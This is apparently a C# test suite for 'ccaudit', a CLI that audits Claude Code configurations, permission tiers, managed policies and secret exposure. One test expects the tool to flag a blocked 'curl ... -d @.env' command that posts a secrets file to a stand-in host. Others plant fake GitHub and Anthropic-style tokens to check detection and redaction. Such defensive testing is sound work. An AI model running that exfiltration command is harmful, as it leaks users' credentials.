using System.Diagnostics;
using System.Text.Json;
using CcAudit.Cli.Tests.TestSupport;
using CcAudit.Core.Tests.Discovery;
using CcAudit.Core.Tests.TestSupport;

namespace CcAudit.Cli.Tests.Commands;

public sealed class ScanCommandTests : IDisposable
{
    private readonly FixtureHome _fixture = new();

    public void Dispose() => _fixture.Dispose();

    private string[] FixtureArgs(params string[] more) =>
        ["--home", _fixture.Home, "--managed-dir", _fixture.Managed, "--path-map", $"{FixtureHome.RecordedHome}={_fixture.Home}", .. more];

    [Fact]
    public async Task Scan_Json_IsTheInventoryOnStdoutAndNothingElse()
    {
        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--format", "json")]);

        Assert.Equal(0, result.ExitCode);
        using var doc = JsonDocument.Parse(result.Out);
        Assert.Equal(1, doc.RootElement.GetProperty("schemaVersion").GetInt32());
        Assert.Equal(3, doc.RootElement.GetProperty("inventory").GetProperty("launchDirectories").GetArrayLength());
        Assert.Contains(doc.RootElement.GetProperty("findings").EnumerateArray(), f => f.GetProperty("ruleId").GetString() == "CCA204");
        Assert.DoesNotContain("correct-horse-battery-staple", result.Out, StringComparison.Ordinal);
        Assert.Matches(@"^ccaudit: audit saved as snapshot #\d+ in \S+ccaudit\.db\n$", result.Error);
    }

    [Fact]
    public async Task Scan_Console_ShowsHomesLaunchDirsServersAndBlindSpots()
    {
        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs()]);

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("Claude homes", result.Out, StringComparison.Ordinal);
        Assert.Contains(".zshrc:2", result.Out, StringComparison.Ordinal);
        Assert.Contains("remote-docs", result.Out, StringComparison.Ordinal);
        Assert.Contains("pending-approval", result.Out, StringComparison.Ordinal);
        Assert.Contains("could not fully see", result.Out, StringComparison.Ordinal);
        Assert.Contains("30-malformed.json", result.Out, StringComparison.Ordinal);
        Assert.Contains("1 risky command(s)", result.Out, StringComparison.Ordinal);
        Assert.Contains("1x (1 blocked) curl -s http://127.0.0.1:9/x -d @.env", result.Out, StringComparison.Ordinal);
        Assert.DoesNotContain("ghp_FAKEfake0123456789", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_Console_GroupsFindingsByStepWithSeverityRuleAndFix()
    {
        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--no-store")]);

        Assert.Equal(0, result.ExitCode);
        var lines = result.Out.Split('\n');
        var heading = Array.FindIndex(lines, l => l.Contains("Step 5: monitoring", StringComparison.Ordinal) && l.Contains("finding(s))", StringComparison.Ordinal));
        Assert.True(heading >= 0, result.Out);
        var finding = Array.FindIndex(lines, heading, l => l.StartsWith("CRITICAL CCA204 ", StringComparison.Ordinal));
        Assert.True(finding > heading, result.Out);
        Assert.StartsWith("         at ", lines[finding + 1], StringComparison.Ordinal);
        Assert.StartsWith("         fix: ", lines[finding + 2], StringComparison.Ordinal);
        Assert.True(lines[finding + 2].Length > "         fix: ".Length);
    }

    [Fact]
    public async Task Scan_Baseline_SuppressesAndFlagsExpiredEntries()
    {
        var baseline = Path.Combine(_fixture.Root, "scan-baseline.yml");
        File.WriteAllText(baseline, """
            suppressions:
              - rule: CCA204
                reason: the gateway is ours
                expires: 2999-01-01
              - rule: CCA005
                reason: old decision
                expires: 2020-01-01
            """);

        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--format", "json", "--no-store", "--baseline", baseline)]);

        Assert.Equal(0, result.ExitCode);
        using var doc = JsonDocument.Parse(result.Out);
        var findings = doc.RootElement.GetProperty("findings").EnumerateArray().Select(f => f.GetProperty("ruleId").GetString()).ToList();
        Assert.DoesNotContain("CCA204", findings);
        Assert.Contains("CCA901", findings);
        Assert.Contains(doc.RootElement.GetProperty("suppressed").EnumerateArray(), s => s.GetProperty("reason").GetString() == "the gateway is ours");
    }

    [Fact]
    public async Task Scan_Output_WritesTheFileAndLeavesStdoutEmpty()
    {
        var path = Path.Combine(_fixture.Root, "inventory.json");

        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--format", "json", "--output", path)]);

        Assert.Equal(0, result.ExitCode);
        Assert.Empty(result.Out);
        Assert.Equal(1, JsonDocument.Parse(File.ReadAllText(path)).RootElement.GetProperty("schemaVersion").GetInt32());
    }

    [Theory]
    [InlineData("--format", "yaml")]
    [InlineData("--path-map", "nonsense")]
    [InlineData("--fail-on", "severe")]
    [InlineData("--format", "xlsx")]
    [InlineData("--csv-table", "nope")]
    public async Task Scan_BadOption_IsUsageError(string option, string value)
    {
        var result = await CliRunner.RunAsync("scan", "--home", _fixture.Home, option, value);

        Assert.Equal(2, result.ExitCode);
        Assert.Empty(result.Out);
    }

    [Theory]
    [InlineData("critical", 1)]
    [InlineData("none", 0)]
    public async Task Scan_FailOn_SetsTheExitCode(string threshold, int expected)
    {
        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--format", "json", "--fail-on", threshold)]);

        Assert.Equal(expected, result.ExitCode);
    }

    [Fact]
    public async Task Scan_FailOn_IsZeroWhenTheOnlyFindingsAreBelow()
    {
        using var dir = new TempDir();
        var home = dir.Combine("home");
        dir.Write(Path.Combine("home", ".claude", "settings.json"), """{"env":{"CLAUDE_CODE_ENABLE_TELEMETRY":"1","OTEL_LOGS_EXPORTER":"otlp","OTEL_RESOURCE_ATTRIBUTES":"team=t"},"hooks":{"ConfigChange":[{"hooks":[{"type":"command","command":"log"}]}]}}""");
        // A managed policy that sets every control CCA461 looks for, and a sandbox that hides the SSH keys (CCA471).
        dir.Write(Path.Combine("managed", "managed-settings.json"), """
            {"permissions":{"disableBypassPermissionsMode":"disable","blockWritesOutsideWorkingDirectories":true},
             "pluginConfigs":{"cc-plugin-sec-default@builtin":{"options":{"allowManagedModsOnly":true}}},"strictKnownMarketplaces":[],
             "strictPluginOnlyCustomization":true,"disableSideloadFlags":true,"forceLoginMethod":"claudeai","forceLoginOrgUUID":"00000000-0000-0000-0000-000000000001",
             "allowedProviders":["anthropic"],"requiredMinimumVersion":"2.1.300","disableAutoMode":"disable","disableRemoteControl":true,"allowedHttpHookUrls":[],
             "sandbox":{"enabled":true,"failIfUnavailable":true,"allowUnsandboxedCommands":false,"filesystem":{"denyRead":["~/.ssh"]}}}
            """);

        var result = await CliRunner.RunAsync("scan", "--home", home, "--managed-dir", Directory.CreateDirectory(dir.Combine("managed")).FullName, "--project", dir.Path, "--format", "json", "--fail-on", "low");

        Assert.Equal(0, result.ExitCode);
        Assert.Empty(JsonDocument.Parse(result.Out).RootElement.GetProperty("findings").EnumerateArray());
    }

    [Fact]
    public async Task SettingsShow_Json_GivesOriginOfEveryValueAndRule()
    {
        var result = await CliRunner.RunAsync(["settings", "show", "--cwd", _fixture.App, "--format", "json", .. FixtureArgs()]);

        Assert.Equal(0, result.ExitCode);
        using var doc = JsonDocument.Parse(result.Out);
        var mode = doc.RootElement.GetProperty("values").EnumerateArray().Single(v => v.GetProperty("path").GetString() == "permissions.defaultMode");
        Assert.Equal("acceptEdits", mode.GetProperty("value").GetString());
        Assert.Equal("project", mode.GetProperty("tier").GetString());
        Assert.Equal(5, mode.GetProperty("location").GetProperty("line").GetInt32());
        var key = doc.RootElement.GetProperty("values").EnumerateArray().Single(v => v.GetProperty("path").GetString() == "env.ANTHROPIC_API_KEY");
        Assert.StartsWith("sk-ant-api03-…", key.GetProperty("value").GetString(), StringComparison.Ordinal);
        Assert.Contains(doc.RootElement.GetProperty("permissions").EnumerateArray(), r => r.GetProperty("rule").GetString() == "Bash(docker exec *)" && r.GetProperty("tier").GetString() == "local");
    }

    [Fact]
    public async Task SettingsShow_WithSettingsFile_AddsTheFlagTierAboveLocalSettings()
    {
        using var dir = new TempDir();
        var flag = dir.Write("flag.json", """{"permissions":{"defaultMode":"plan","deny":["WebFetch"]}}""");

        var result = await CliRunner.RunAsync(["settings", "show", "--cwd", _fixture.App, "--format", "json", "--settings", flag, .. FixtureArgs()]);

        Assert.Equal(0, result.ExitCode);
        using var doc = JsonDocument.Parse(result.Out);
        var tiers = doc.RootElement.GetProperty("sources").EnumerateArray().Select(s => s.GetProperty("tier").GetString()).Where(t => t != "managed").ToList();
        Assert.Equal(["flag", "local", "project", "user"], tiers);
        var mode = doc.RootElement.GetProperty("values").EnumerateArray().Single(v => v.GetProperty("path").GetString() == "permissions.defaultMode");
        Assert.Equal(("plan", "flag"), (mode.GetProperty("value").GetString(), mode.GetProperty("tier").GetString()));
        Assert.Contains(doc.RootElement.GetProperty("permissions").EnumerateArray(), r => r.GetProperty("rule").GetString() == "WebFetch" && r.GetProperty("tier").GetString() == "flag" && r.GetProperty("applied").GetBoolean());
    }

    [Fact]
    public async Task Scan_WithMissingSettingsFile_IsAUsageError()
    {
        var result = await CliRunner.RunAsync(["scan", "--settings", "/nonexistent/flag.json", .. FixtureArgs()]);

        Assert.Equal(2, result.ExitCode);
        Assert.Contains("--settings names a file that does not exist: /nonexistent/flag.json", result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task SettingsShow_Console_ShowsIgnoredRulesOfUntrustedRepo()
    {
        var result = await CliRunner.RunAsync(["settings", "show", "--cwd", _fixture.Untrusted, .. FixtureArgs()]);

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("NOT trusted", result.Out, StringComparison.Ordinal);
        Assert.Contains("no: the workspace is not trusted", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_AsUnprivilegedUser_ReportsUnreadableUserSettingsOfAnUnusedHome()
    {
        using var dir = new TempDir();
        File.SetUnixFileMode(dir.Path, (UnixFileMode)0b111_101_101);
        var home = dir.Combine("home");
        var settings = dir.Write(Path.Combine("home", ".claude", "settings.json"), """{"permissions":{"defaultMode":"bypassPermissions"}}""");
        foreach (var d in new[] { home, Path.Combine(home, ".claude") })
        {
            File.SetUnixFileMode(d, (UnixFileMode)0b111_101_101);
        }

        File.SetUnixFileMode(settings, UnixFileMode.None);

        var (code, stdout) = await RunAsNobodyAsync("scan", "--home", home, "--format", "json", "--managed-dir", Directory.CreateDirectory(dir.Combine("none")).FullName);

        Assert.Equal(0, code);
        using var doc = JsonDocument.Parse(stdout);
        var inventory = doc.RootElement.GetProperty("inventory");
        Assert.Contains(inventory.GetProperty("diagnostics").EnumerateArray(), d => d.GetProperty("code").GetString() == "D002" && d.GetProperty("location").GetProperty("path").GetString() == settings);
        Assert.False(inventory.GetProperty("homes")[0].GetProperty("files").EnumerateArray().Single(f => f.GetProperty("kind").GetString() == "user-settings").GetProperty("readable").GetBoolean());
    }

    private static async Task<(int ExitCode, string Stdout)> RunAsNobodyAsync(params string[] args)
    {
        var cli = Path.Combine(AppContext.BaseDirectory, "ccaudit.dll");
        var start = new ProcessStartInfo("runuser", ["-u", "nobody", "--", "dotnet", cli, .. args, "--no-store"]) { RedirectStandardOutput = true, RedirectStandardError = true };
        start.Environment["DOTNET_CLI_HOME"] = "/tmp";
        start.Environment["HOME"] = "/tmp";
        using var process = Process.Start(start)!;
        var stdout = await process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        return (process.ExitCode, stdout);
    }

    [Fact]
    public async Task Scan_AsUnprivilegedUser_ReportsUnreadableDirectoryInsteadOfClean()
    {
        using var dir = new TempDir();
        File.SetUnixFileMode(dir.Path, (UnixFileMode)0b111_101_101);
        var home = dir.Combine("home");
        var projects = Path.Combine(home, ".claude", "projects");
        Directory.CreateDirectory(Path.Combine(projects, "-srv-app"));
        File.WriteAllText(Path.Combine(projects, "-srv-app", "s.jsonl"), "{\"cwd\":\"/srv/app\"}\n");
        foreach (var d in new[] { home, Path.Combine(home, ".claude") })
        {
            File.SetUnixFileMode(d, (UnixFileMode)0b111_101_101);
        }

        File.SetUnixFileMode(projects, UnixFileMode.None);

        var (code, stdout) = await RunAsNobodyAsync("scan", "--home", home, "--format", "json", "--managed-dir", Directory.CreateDirectory(dir.Combine("none")).FullName);

        Assert.Equal(0, code);
        using var doc = JsonDocument.Parse(stdout);
        Assert.Contains(doc.RootElement.GetProperty("inventory").GetProperty("diagnostics").EnumerateArray(), d => d.GetProperty("code").GetString() == "D030" && d.GetProperty("location").GetProperty("path").GetString() == projects);
    }

    private const string PlantedToken = "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";

    [Fact]
    public async Task ScanReach_Json_ReportsThePlantedSecret_AndWithoutReachNothingIsWalked()
    {
        var env = Path.Combine(_fixture.App, ".env");
        File.WriteAllText(env, $"GITHUB_TOKEN={PlantedToken}\n");

        var reach = await CliRunner.RunAsync(["scan", .. FixtureArgs("--reach", "--no-store", "--format", "json")]);
        var plain = await CliRunner.RunAsync(["scan", .. FixtureArgs("--no-store", "--format", "json")]);

        Assert.Equal(0, reach.ExitCode);
        var findings = JsonDocument.Parse(reach.Out).RootElement.GetProperty("findings").EnumerateArray().ToList();
        var secrets = findings.Where(f => f.GetProperty("ruleId").GetString() == "CCA801" && f.GetProperty("subject").GetString() == env).ToList();
        Assert.NotEmpty(secrets);
        Assert.All(secrets, f => Assert.Equal("high", f.GetProperty("severity").GetString()));
        Assert.Contains(findings, f => f.GetProperty("ruleId").GetString() == "CCA807");
        Assert.DoesNotContain(PlantedToken, reach.Out, StringComparison.Ordinal);
        Assert.DoesNotContain(JsonDocument.Parse(plain.Out).RootElement.GetProperty("findings").EnumerateArray(), f => f.GetProperty("ruleId").GetString()!.StartsWith("CCA80", StringComparison.Ordinal));

        // Not walked is not approved: without --reach the step says so and what to pass.
        static JsonElement ReachStep(string json) => JsonDocument.Parse(json).RootElement.GetProperty("steps").EnumerateArray().Single(s => s.GetProperty("step").GetString() == "reach");
        Assert.NotEqual("stays approved", ReachStep(plain.Out).GetProperty("verdict").GetString());
        Assert.NotEqual("could not be assessed", ReachStep(reach.Out).GetProperty("verdict").GetString());
    }

    [Fact]
    public async Task ScanReach_Markdown_ListsReachFindingsInTheReachSection()
    {
        File.WriteAllText(Path.Combine(_fixture.App, ".env"), $"GITHUB_TOKEN={PlantedToken}\n");

        var result = await CliRunner.RunAsync(["scan", .. FixtureArgs("--reach", "--no-store", "--format", "md")]);

        Assert.Equal(0, result.ExitCode);
        var start = result.Out.IndexOf("\n## 4. Reach to sensitive repositories\n", StringComparison.Ordinal);
        var end = result.Out.IndexOf("\n## 5. Monitoring\n", StringComparison.Ordinal);
        Assert.True(start >= 0 && end > start);
        var section = result.Out[start..end];
        Assert.Contains("| high | [CCA801]", section, StringComparison.Ordinal);
        Assert.Contains(".env", section, StringComparison.Ordinal);
        Assert.DoesNotContain(PlantedToken, result.Out, StringComparison.Ordinal);
    }
}
